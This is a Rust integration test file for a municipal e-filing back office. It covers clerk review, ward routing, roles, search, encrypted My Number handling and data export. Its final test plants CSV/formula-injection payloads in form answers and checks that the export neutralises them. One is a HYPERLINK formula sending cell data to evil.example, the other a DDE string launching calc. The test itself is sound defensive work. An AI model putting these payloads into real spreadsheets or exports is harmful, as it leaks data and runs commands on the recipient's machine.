//! The back office: the queue, a filing's detail and its decisions, assignment, wards,
//! My Numbers, reminders and filings made under an older form version.

use madoguchi_app::{AppError, kernel::new_token, review::QueueQuery, review::ReviewInput};
use madoguchi_core::ProcedureId;
use madoguchi_store::prelude::{AuditRead, Submissions, SubmissionsRead};
use madoguchi_testkit::{
    JUMINHYO_APPLICANT, JUMINHYO_PAYMENT, JUMINHYO_REQUEST, TestApp, db_test, defaults,
    defaults::pairs,
};
use madoguchi_workflow::State;

use crate::support::{d, input};

db_test!(fn a_clerk_decides_once_with_an_audit_trail_and_an_email(db) {
    let t = TestApp::builder().db(db).build();
    let (app, clock) = (&t.app, &t.clock);
    let token = new_token().unwrap();
    t.resident_session(&token).fill_juminhyo();
    let receipt = app.filing(&t.tenant()).submit(Some(&token), &ProcedureId::new("juminhyo-copy"), &uuid::Uuid::new_v4().to_string()).unwrap().receipt().clone();
    let clerk = t.sign_in("koseki-jumin@sendai.example");
    let queue = app.review(&clerk.tenant).queue(&clerk, &QueueQuery::default()).unwrap();
    assert_eq!(queue.items.len(), 1);
    assert_eq!(queue.items[0].applicant_name.as_deref(), Some("仙台 太郎"));
    let id = receipt.submission_id.to_string();
    let reject_without_reason = ReviewInput::decision("reject", "  ");
    assert!(matches!(app.review(&clerk.tenant).decide(&clerk, &id, &reject_without_reason), Err(AppError::ReasonRequired)));
    clock.advance(chrono::Duration::hours(2));
    assert_eq!(app.review(&clerk.tenant).decide(&clerk, &id, &ReviewInput::decision("approve", "")).unwrap(), State::Approved);
    assert!(matches!(app.review(&clerk.tenant).decide(&clerk, &id, &ReviewInput::decision("reject", "二重の決定")), Err(AppError::InvalidTransition)));
    let detail = app.review(&clerk.tenant).submission_detail(&clerk, &id).unwrap();
    assert_eq!(detail.state, State::Approved);
    let trail: Vec<_> = detail.events.iter().map(|e| (e.seq, e.actor_kind.code(), e.action.code(), e.from, e.to)).collect();
    assert_eq!(trail, [(1, "resident", "submit", None, State::Arrived), (2, "clerk", "approve", Some(State::Arrived), State::Approved)]);
    assert_eq!(detail.events[1].actor_name.as_deref(), Some("区役所 戸籍住民課 担当(デモ)"));
    // The certificate's fee is asked for once approved (事後決済).
    assert_eq!(detail.mails.iter().map(|m| m.kind.code()).collect::<Vec<_>>(), ["receipt", "decision", "payment_request"]);
    assert_eq!(detail.payments.len(), 1);
    assert_eq!((detail.payments[0].amount.amount(), detail.payments[0].after_approval, detail.payments[0].status), (600, true, madoguchi_core::PaymentStatus::Due));
});

db_test!(fn another_department_cannot_see_or_decide_a_submission(db) {
    let t = TestApp::builder().db(db).build();
    let app = &t.app;
    let token = new_token().unwrap();
    t.resident_session(&token).fill_juminhyo();
    let receipt = app.filing(&t.tenant()).submit(Some(&token), &ProcedureId::new("juminhyo-copy"), &uuid::Uuid::new_v4().to_string()).unwrap().receipt().clone();
    let other = t.sign_in("hoken-nenkin@sendai.example");
    let id = receipt.submission_id.to_string();
    assert!(app.review(&other.tenant).queue(&other, &QueueQuery::default()).unwrap().items.is_empty());
    assert!(matches!(app.review(&other.tenant).submission_detail(&other, &id), Err(AppError::NotFound)));
    assert!(matches!(app.review(&other.tenant).decide(&other, &id, &ReviewInput::decision("approve", "")), Err(AppError::NotFound)));
    assert!(matches!(app.review(&other.tenant).submission_detail(&other, "no-such-id"), Err(AppError::NotFound)));
});

db_test!(fn the_back_office_of_another_city_knows_no_clerk_of_this_one(db) {
    let t = TestApp::builder().db(db).build();
    let app = &t.app;
    let token = new_token().unwrap();
    t.resident_session(&token).fill_juminhyo();
    let receipt = app.filing(&t.tenant()).submit(Some(&token), &ProcedureId::new("juminhyo-copy"), &uuid::Uuid::new_v4().to_string()).unwrap().receipt().clone();
    let clerk = t.sign_in("koseki-jumin@sendai.example");
    let id = receipt.submission_id.to_string();
    // The handle is bound to its city: the clerk who sees the filing at home finds
    // nothing through another city's back office or fees, and decides nothing there.
    let elsewhere = madoguchi_core::TenantId::new("000000");
    assert!(matches!(app.review(&elsewhere).queue(&clerk, &QueueQuery::default()), Err(AppError::NotFound)));
    assert!(matches!(app.review(&elsewhere).submission_detail(&clerk, &id), Err(AppError::NotFound)));
    assert!(matches!(app.review(&elsewhere).decide(&clerk, &id, &ReviewInput::decision("approve", "")), Err(AppError::NotFound)));
    assert!(matches!(app.review(&elsewhere).act(&clerk, &id, &ReviewInput::decision("claim", "")), Err(AppError::NotFound)));
    assert!(matches!(app.review(&elsewhere).failed_deliveries(&clerk), Err(AppError::NotFound)));
    let chief = t.sign_in("admin@sendai.example");
    let today = chrono::Utc::now().date_naive();
    assert!(matches!(app.fees(&elsewhere).reconciliation(&chief, today), Err(AppError::NotFound)));
    assert!(app.fees(&chief.tenant).reconciliation(&chief, today).is_ok());
    assert_eq!(app.review(&clerk.tenant).submission_detail(&clerk, &id).unwrap().state, State::Arrived, "nothing was decided");
});

db_test!(fn ward_office_filings_go_to_the_ward_of_the_address(db) {
    let t = TestApp::builder().db(db).build();
    let app = &t.app;
    let applicant = |postal: &str| {
        let mut answers = pairs(JUMINHYO_APPLICANT);
        answers.iter_mut().filter(|(k, _)| k == "applicant_postal_code").for_each(|(_, v)| *v = postal.into());
        answers
    };
    let file_from = |postal: &str| {
        let token = new_token().unwrap();
        app.filing(&t.tenant()).save_step(&token, &ProcedureId::new("juminhyo-copy"), "applicant", &applicant(postal), defaults::RESIDENT_ADDRESS).unwrap();
        app.filing(&t.tenant()).save_step(&token, &ProcedureId::new("juminhyo-copy"), "request", &pairs(JUMINHYO_REQUEST), defaults::RESIDENT_ADDRESS).unwrap();
        app.filing(&t.tenant()).save_step(&token, &ProcedureId::new("juminhyo-copy"), "payment", &pairs(JUMINHYO_PAYMENT), defaults::RESIDENT_ADDRESS).unwrap();
        app.filing(&t.tenant()).submit(Some(&token), &ProcedureId::new("juminhyo-copy"), &uuid::Uuid::new_v4().to_string()).unwrap().receipt().clone()
    };
    let izumi = file_from("981-3133");
    let aoba = file_from("980-0811");
    // An address outside the wards is refused where it is asked (routing.rs has the whole
    // class of them), not stored for central processing.
    let outside = app.filing(&t.tenant()).save_step(&new_token().unwrap(), &ProcedureId::new("juminhyo-copy"), "applicant", &applicant("100-0001"), defaults::RESIDENT_ADDRESS).unwrap();
    assert!(
        matches!(&outside, madoguchi_app::filing::StepOutcome::Invalid { errors } if errors[0].code == madoguchi_forms::FormErrorCode::PostalCodeOutsideCity),
        "an address outside the wards is refused: {outside:?}"
    );
    assert_eq!(izumi.department.ja, "泉区 区役所 戸籍住民課", "the receipt names the ward office");
    assert_eq!(aoba.department.ja, "青葉区 区役所 戸籍住民課");
    let izumi_clerk = t.sign_in("koseki-jumin.izumi@sendai.example");
    assert_eq!(izumi_clerk.ward.as_ref().map(|w| w.code.as_str()), Some("04105"));
    let seen: Vec<String> = app.review(&izumi_clerk.tenant).queue(&izumi_clerk, &QueueQuery::default()).unwrap().items.iter().map(|i| i.arrival_number.to_string()).collect();
    assert_eq!(seen, [izumi.arrival_number.to_string()]);
    assert!(matches!(app.review(&izumi_clerk.tenant).submission_detail(&izumi_clerk, aoba.submission_id.as_str()), Err(AppError::NotFound)));
    let central = t.sign_in("koseki-jumin@sendai.example");
    assert_eq!(app.review(&central.tenant).queue(&central, &QueueQuery::default()).unwrap().total, 2, "central processing sees every ward");
});

db_test!(fn a_submission_still_renders_under_its_version_after_the_form_changes(db) {
    let t = TestApp::builder().db(db).build();
    let app = &t.app;
    let token = new_token().unwrap();
    t.resident_session(&token).fill_juminhyo();
    let receipt = app.filing(&t.tenant()).submit(Some(&token), &ProcedureId::new("juminhyo-copy"), &uuid::Uuid::new_v4().to_string()).unwrap().receipt().clone();
    let filed_under = app.forms_for(&defaults::tenant_id()).get("juminhyo-copy").unwrap().version().to_string();

    // The department renames a label and drops the phone question; the service restarts.
    let mut value = defaults::definition("juminhyo-copy");
    value["ui"]["fields"]["applicant_name"]["label"]["ja"] = "請求者の氏名".into();
    value["schema"]["properties"].as_object_mut().unwrap().remove("applicant_phone");
    for step in value["ui"]["steps"].as_array_mut().unwrap() {
        step["fields"].as_array_mut().unwrap().retain(|f| f != "applicant_phone");
    }
    value["ui"]["fields"].as_object_mut().unwrap().remove("applicant_phone");
    value["schema"]["required"].as_array_mut().unwrap().retain(|f| f != "applicant_phone");
    let changed = madoguchi_forms::Form::from_value(&defaults::form_path("juminhyo-copy"), value).unwrap();
    assert_ne!(changed.version(), filed_under, "a changed definition is a new version");
    let restarted = t.another_process_with([changed]);

    // The clerk still sees the submission as it was filed: old labels, the phone answer.
    let clerk = restarted.staff(&t.tenant()).clerk_for_session(&t.sign_in_token("koseki-jumin@sendai.example")).unwrap().unwrap();
    let detail = restarted.review(&clerk.tenant).submission_detail(&clerk, receipt.submission_id.as_str()).unwrap();
    assert_eq!(detail.form.version(), filed_under);
    let answers: Vec<(String, String)> = detail
        .form
        .answers(&detail.data, madoguchi_core::Lang::Ja)
        .into_iter()
        .flat_map(|(_, answers)| answers)
        .map(|a| (a.label, a.value))
        .collect();
    assert!(answers.contains(&("氏名".to_string(), "仙台 太郎".to_string())), "{answers:?}");
    assert!(answers.iter().any(|(label, _)| label == "日中の連絡先電話番号"), "{answers:?}");
    assert!(!answers.iter().any(|(label, _)| label == "請求者の氏名"));
    // New filings use the new version.
    assert_ne!(restarted.forms_for(&defaults::tenant_id()).get("juminhyo-copy").unwrap().version(), filed_under);
});

db_test!(fn roles_decide_who_may_do_what(db) {
    let t = TestApp::builder().db(db).build();
    let (app, clock) = (&t.app, &t.clock);
    let receipt = t.resident().file_juminhyo();
    let id = receipt.submission_id.to_string();
    let clerk = t.sign_in("koseki-jumin@sendai.example");
    let chief = t.sign_in("koseki-jumin.kacho@sendai.example");
    assert_eq!(chief.role, madoguchi_workflow::Role::Supervisor);

    // Only supervisors assign, and only to staff who can see the filing's ward.
    let mut assign = input("assign");
    assign.assignee = clerk.id.to_string();
    assert!(matches!(app.review(&clerk.tenant).act(&clerk, &id, &assign), Err(AppError::Forbidden)));
    let izumi = t.sign_in("koseki-jumin.izumi@sendai.example");
    let mut to_izumi = input("assign");
    to_izumi.assignee = izumi.id.to_string();
    assert!(matches!(app.review(&chief.tenant).act(&chief, &id, &to_izumi), Err(AppError::Refused(madoguchi_core::ErrorCode::AssigneeInvalid))), "an 青葉区 filing cannot go to a 泉区 clerk");
    assert_eq!(app.review(&chief.tenant).act(&chief, &id, &assign).unwrap(), State::Arrived, "assigning keeps the state");
    assert_eq!(app.review(&chief.tenant).submission_detail(&chief, &id).unwrap().assignee.unwrap().value, clerk.id.to_string());
    // The applicant's actions are never a clerk's.
    assert!(matches!(app.review(&clerk.tenant).act(&clerk, &id, &input("withdraw")), Err(AppError::Forbidden)));
    assert!(matches!(app.review(&clerk.tenant).act(&clerk, &id, &input("resubmit")), Err(AppError::Forbidden)));

    // An extension needs days and a reason, and moves the due date.
    let mut extend = input("extend");
    extend.days = "5".into();
    assert!(matches!(app.review(&clerk.tenant).act(&clerk, &id, &extend), Err(AppError::ReasonRequired)));
    extend.days = "0".into();
    extend.reason = "関係機関への照会に時間を要するため".into();
    assert!(matches!(app.review(&clerk.tenant).act(&clerk, &id, &extend), Err(AppError::Refused(madoguchi_core::ErrorCode::ExtensionInvalid))));
    extend.days = "5".into();
    app.review(&clerk.tenant).act(&clerk, &id, &extend).unwrap();
    assert_eq!(app.review(&clerk.tenant).submission_detail(&clerk, &id).unwrap().due_on, Some(d(2026, 12, 3)), "26 Nov + 5 business days");

    // Overdue filings show up as such after their date.
    clock.advance(chrono::Duration::days(14));
    let overdue = app.review(&clerk.tenant).queue(&clerk, &QueueQuery { due: Some(madoguchi_app::review::DueChoice::Overdue), ..QueueQuery::default() }).unwrap();
    assert_eq!(overdue.items.len(), 1);
    assert!(overdue.items[0].overdue);

    // Reject, then close the file; nothing after that.
    let mut reject = input("reject");
    reject.reason = "本人確認ができないため".into();
    assert_eq!(app.review(&clerk.tenant).act(&clerk, &id, &reject).unwrap(), State::Rejected);
    assert_eq!(app.review(&clerk.tenant).act(&clerk, &id, &input("close")).unwrap(), State::Closed);
    assert!(matches!(app.review(&chief.tenant).act(&chief, &id, &input("approve")), Err(AppError::InvalidTransition)));
    let overdue = app.review(&clerk.tenant).queue(&clerk, &QueueQuery { due: Some(madoguchi_app::review::DueChoice::Overdue), ..QueueQuery::default() }).unwrap();
    assert!(overdue.items.is_empty(), "a decided filing is not overdue");
});

db_test!(fn the_queue_finds_filings_by_name_reading_or_number(db) {
    let t = TestApp::builder().db(db).build();
    let app = &t.app;
    let receipt = t.resident().file_juminhyo();
    let clerk = t.sign_in("koseki-jumin@sendai.example");
    for q in ["仙台", "せんだい", "ｾﾝﾀﾞｲ", "タロウ", receipt.arrival_number.as_str(), &receipt.arrival_number.as_str().to_lowercase()] {
        let found = app.review(&clerk.tenant).queue(&clerk, &QueueQuery { search: Some(q.into()), ..QueueQuery::default() }).unwrap();
        assert_eq!(found.total, 1, "{q}");
    }
    let none = app.review(&clerk.tenant).queue(&clerk, &QueueQuery { search: Some("青葉".into()), ..QueueQuery::default() }).unwrap();
    assert_eq!(none.total, 0);
    let page = app.review(&clerk.tenant).queue(&clerk, &QueueQuery::default()).unwrap();
    assert_eq!(page.counts.iter().find(|(s, _)| *s == State::Arrived).unwrap().1, 1);
    assert!(page.procedures.iter().any(|p| p.value == "juminhyo-copy"));
});

db_test!(fn my_numbers_are_sealed_at_rest_and_each_reveal_is_logged(db) {
    let root = defaults::repo_root();
    let t = TestApp::builder().db(db).forms(["jido-teate-nintei"]).build();
    let (app, db) = (&t.app, &t.db);
    let example: serde_json::Value = serde_json::from_str(&std::fs::read_to_string(root.join("forms/jido-teate-nintei/examples/valid/first-baby-public-account.json")).unwrap()).unwrap();
    let data = example.get("data").cloned().unwrap_or(example);
    let receipt = app.filing(&t.tenant()).submit_data(&ProcedureId::new("jido-teate-nintei"), data, &uuid::Uuid::new_v4().to_string(), defaults::RESIDENT_ADDRESS).unwrap().receipt().clone();
    let id = receipt.submission_id.to_string();
    // In the database: sealed, not the number.
    let row = db.db.conn().unwrap().find_submission(&t.tenant(), &receipt.submission_id).unwrap().unwrap();
    assert!(!row.data.contains("123456789018"), "My Number stored in clear");
    assert!(row.data.contains("sealed:v1:mynumber:"));
    // To the clerk: on screen masked, and in full only with a reason, which is logged.
    let clerk = t.sign_in("hoken-nenkin@sendai.example");
    let detail = app.review(&clerk.tenant).submission_detail(&clerk, &id).unwrap();
    let pointer = "/claimant_my_number".to_string();
    assert!(detail.my_numbers.iter().any(|m| m.value == pointer), "{:?}", detail.my_numbers);
    let shown: Vec<String> = detail.form.answers(&detail.data, madoguchi_core::Lang::Ja).into_iter().flat_map(|(_, a)| a).map(|a| a.value).collect();
    assert!(shown.contains(&"********9018".to_string()), "{shown:?}");
    assert!(!shown.iter().any(|v| v.contains("123456789018")), "never in full on screen");
    assert!(matches!(app.review(&clerk.tenant).reveal_my_number(&clerk, &id, &pointer, " "), Err(AppError::ReasonRequired)));
    assert_eq!(app.review(&clerk.tenant).reveal_my_number(&clerk, &id, &pointer, "住民基本台帳との照合").unwrap(), "123456789018");
    assert!(matches!(app.review(&clerk.tenant).reveal_my_number(&clerk, &id, "/claimant_name", "照合"), Err(AppError::NotFound)), "only My Number fields");
    let log: Vec<(String, Option<String>)> = db.db.conn().unwrap().audit_of_submission(&receipt.submission_id).unwrap().into_iter().map(|a| (a.action.code().to_string(), a.reason)).collect();
    assert_eq!(log, [("view".to_string(), None), ("reveal_my_number".to_string(), Some("住民基本台帳との照合".to_string()))]);
});

db_test!(fn filings_from_before_search_keys_get_them_at_start(db) {
    let t = TestApp::builder().db(db).build();
    let db = &t.db;
    let receipt = t.resident().file_juminhyo();
    // As the review migration left older rows: the raw name, no reading.
    db.db.conn().unwrap().set_search_key(&receipt.submission_id, "仙台 太郎").unwrap();
    let restarted = t.another_process();
    let clerk = restarted.staff(&t.tenant()).clerk_for_session(&t.sign_in_token("koseki-jumin@sendai.example")).unwrap().unwrap();
    let found = restarted.review(&clerk.tenant).queue(&clerk, &QueueQuery { search: Some("せんだい".into()), ..QueueQuery::default() }).unwrap();
    assert_eq!(found.total, 1);
});

db_test!(fn a_supervisor_assigns_many_at_once_or_none(db) {
    let t = TestApp::builder().db(db).build();
    let app = &t.app;
    let ids: Vec<String> = (0..3).map(|_| t.resident().file_juminhyo().submission_id.to_string()).collect();
    let boss = t.sign_in("koseki-jumin.kacho@sendai.example");
    let worker = t.sign_in("koseki-jumin@sendai.example");
    // Clerks do not assign; nothing chosen is an error to fix.
    assert!(matches!(app.review(&worker.tenant).bulk_assign(&worker, &ids, worker.id.as_str()), Err(AppError::InvalidTransition | AppError::Forbidden)));
    assert!(matches!(app.review(&boss.tenant).bulk_assign(&boss, &[], worker.id.as_str()), Err(AppError::Refused(madoguchi_core::ErrorCode::SelectionInvalid))));
    // One decided meanwhile: none of the three is assigned.
    app.review(&worker.tenant).decide(&worker, &ids[2], &ReviewInput::decision("approve", "")).unwrap();
    let before = t.history(&ids[0]).len();
    assert!(app.review(&boss.tenant).bulk_assign(&boss, &ids, worker.id.as_str()).is_err());
    assert_eq!(t.history(&ids[0]).len(), before, "all or none");
    assert_eq!(app.review(&boss.tenant).bulk_assign(&boss, &ids[..2], worker.id.as_str()).unwrap(), 2);
    for id in &ids[..2] {
        assert_eq!(app.review(&boss.tenant).submission_detail(&boss, id).unwrap().assignee.unwrap().value, worker.id.to_string());
    }
    // Chosen filings export together; another section's id makes the whole export a 404.
    let q = madoguchi_app::review::ExportQuery { procedure: ProcedureId::new(""), ids: ids.clone(), from: None, to: None, states: vec![], format: madoguchi_app::review::ExportFormat::Csv { bom: false } };
    assert_eq!(app.review(&worker.tenant).export(&worker, &q).unwrap().rows, 3);
    assert!(matches!(app.review(&t.sign_in("hoken-nenkin@sendai.example").tenant).export(&t.sign_in("hoken-nenkin@sendai.example"), &q), Err(AppError::NotFound)));
});

db_test!(fn answers_a_spreadsheet_would_run_are_exported_as_text_in_csv_and_exact_in_json(db) {
    let t = TestApp::builder().db(db).build();
    let app = &t.app;
    let mut data: serde_json::Value = serde_json::from_str(&std::fs::read_to_string(defaults::repo_root().join("forms/juminhyo-copy/examples/valid/self-whole-household.json")).unwrap()).unwrap();
    let purpose = "=HYPERLINK(\"https://evil.example/?\"&A1,\"詳細\")";
    let building = "@SUM(1+1)*cmd|' /C calc'!A0";
    data["purpose"] = serde_json::Value::from(purpose);
    data["applicant_address"]["building"] = serde_json::Value::from(building);
    // As stored (normalised): still beginning with `=` and `@`.
    let kept = app.filing(&t.tenant()).validate_data(&ProcedureId::new("juminhyo-copy"), data.clone()).unwrap().normalized;
    let (purpose, building) = (kept["purpose"].as_str().unwrap().to_string(), kept["applicant_address"]["building"].as_str().unwrap().to_string());
    assert!(purpose.starts_with('=') && building.starts_with('@'), "{kept}");
    app.filing(&t.tenant()).submit_data(&ProcedureId::new("juminhyo-copy"), data, &uuid::Uuid::new_v4().to_string(), defaults::RESIDENT_ADDRESS).unwrap();
    let clerk = t.sign_in("koseki-jumin@sendai.example");
    let query = |format| madoguchi_app::review::ExportQuery { procedure: "juminhyo-copy".into(), ids: vec![], from: None, to: None, states: vec![], format };
    for bom in [false, true] {
        let export = app.review(&clerk.tenant).export(&clerk, &query(madoguchi_app::review::ExportFormat::Csv { bom })).unwrap();
        assert_eq!(export.body.starts_with(b"\xEF\xBB\xBF"), bom);
        let text = String::from_utf8(export.body).unwrap();
        let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(text.trim_start_matches('\u{feff}').as_bytes());
        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        let column = |name: &str| rows[0].iter().position(|h| h == name).unwrap();
        let filing = &rows[2];
        assert_eq!(&filing[column("purpose")], format!("'{purpose}"));
        assert_eq!(&filing[column("applicant_address.building")], format!("'{building}"));
        // Every cell of the file is safe to open, the filing's own columns included.
        for row in &rows {
            for cell in row.iter() {
                let first = cell.chars().next();
                assert!(!matches!(first, Some('=' | '+' | '@' | '\t' | '\r')), "{cell:?}");
            }
        }
    }
    let json = app.review(&clerk.tenant).export(&clerk, &query(madoguchi_app::review::ExportFormat::Json)).unwrap();
    let body: serde_json::Value = serde_json::from_slice(&json.body).unwrap();
    assert_eq!(body["filings"][0]["answers"]["purpose"], purpose.as_str(), "the JSON export is exact");
    assert_eq!(body["filings"][0]["answers"]["applicant_address"]["building"], building.as_str());
});
